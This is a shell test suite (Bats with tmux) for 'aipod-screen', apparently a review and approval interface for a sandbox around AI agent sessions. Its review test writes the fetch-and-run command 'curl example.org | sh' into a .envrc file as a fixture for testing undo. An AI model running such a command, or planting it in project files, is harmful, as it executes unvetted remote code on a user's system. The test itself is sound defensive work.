load helper

setup() {
	setup_env
	command -v tmux >/dev/null || skip "no tmux"
	export LC_ALL=C.UTF-8 ENV=
	cd "$T/ws"
}

teardown() {
	command -v tmux >/dev/null && tm kill-server 2>/dev/null || :
}

# a server for each screen: one that ends may still hold its socket
tm() { tmux -f /dev/null -S "$T/tmux.${servers:-0}" "$@"; }
screen() { tm capture-pane -p; }
shows() { screen | grep -qF -- "$1"; }
see() { until_true 10 shows "$1" || { screen >&2; return 1; }; }

gone() { ! shows "$1"; }

# run COMMAND...: on a terminal of 100x20.
start() {
	rm -f "$T/status"
	servers=$((${servers:-0} + 1))
	tm new-session -d -x 100 -y 20 "$*; echo \$? >$T/status.new; mv $T/status.new $T/status; sleep 100" 3>&-
}

ended() {
	until_true 10 test -e "$T/status"
	is "$(cat "$T/status")" "$1"
	tm kill-server
}

# A tool that notes how it was called and prints standard input's text.
fake() {	# NAME TEXT
	mkdir -p "$T/bin"
	printf '%s\n' "$2" >"$T/bin/$1.out"
	printf '#!/bin/sh\necho "%s $*" >>%s\ncase $1 in logs) echo "$@";; list) cat %s;; esac\n' \
	    "$1" "$T/calls" "$T/bin/$1.out" >"$T/bin/$1"
	chmod +x "$T/bin/$1"
	cp "$TOP/build/bin/aipod-screen" "$T/bin/"
}

@test "screen: rules, and deleting one" {
	aipod-allow add command 'make test'
	aipod-allow add host example.org
	start aipod allowed
	see 'make test'
	see 'd: delete'
	tm send-keys d
	see '1/1'
	see 'example.org'
	tm send-keys q
	ended 0
	run aipod-allow list
	lacks "$output" 'make test'
	has "$output" example.org
}

@test "screen: hidden files, and giving one back" {
	echo S=1 >.env
	aipod-hide add .env
	start aipod env-files
	see .env
	tm send-keys u
	see '0/0'
	tm send-keys q
	ended 0
	is "$(aipod-hide list)" ''
}

@test "screen: sessions and approvals, when there are none" {
	for s in sessions approvals; do
		start aipod "$s"
		see '0/0'
		tm send-keys q
		ended 0
	done
}

@test "screen: commands, both outputs and the end of one" {
	export AIPOD_WORKSPACE=$T/ws
	session_env
	session_lock
	printf '#!/bin/sh\necho to-stdout; echo to-stderr >&2; exec sleep 100\n' >slow
	chmod +x slow
	aipod-allow add command ./slow
	id=$(aipod-command -b run -c ./slow 9>&- 3>&-)
	unset AIPOD_SESSION AIPOD_SESSION_DIR
	start aipod commands
	see '> running'
	see './slow'
	see to-stdout
	lacks "$(screen)" to-stderr
	tm send-keys Tab
	see to-stderr
	lacks "$(screen)" to-stdout
	tm send-keys k
	killed() { aipod-command list | grep "^$id" | grep -qv running; }
	until_true 15 killed
	tm send-keys r
	until_true 10 gone running
	tm send-keys q
	ended 0
	exec 9>&-
}

@test "screen: services" {
	fake aipod-service 'db	up	postgres:16'
	start "$T/bin/aipod-screen services"
	see 'logs -- db'
	tm send-keys s
	until_true 10 grep -q 'aipod-service stop -- db' "$T/calls"
	tm send-keys q
	ended 0
}

@test "screen: review, and taking one back" {
	aipod-undo --begin 00000001
	echo 'curl example.org | sh' >.envrc
	start aipod-screen review
	see .envrc
	see 'curl example.org | sh'
	tm send-keys u
	see 'Do this?'
	tm send-keys y Enter
	until_true 10 test ! -e .envrc
	tm send-keys Enter
	until_true 10 gone shell
	tm send-keys q
	ended 0
}

@test "screen: in a pipe the plain list" {
	aipod-allow add host example.org
	for s in allowed env-files sessions approvals; do
		status 0 aipod-screen "$s"
	done
	is "$(aipod-screen allowed)" "$(aipod-allow list)"
	is "$(cd / && aipod-screen -w "$T/ws" rules)" "$(aipod-allow list)"
}

@test "screen: usage" {
	status 100 aipod-screen
	status 100 aipod-screen none
	status 100 aipod-screen --bogus
	status 100 aipod-screen -w /nonexistent allowed
	status 0 aipod-screen --help
	status 0 aipod-screen --version
	has "$output" 'aipod-screen '
}
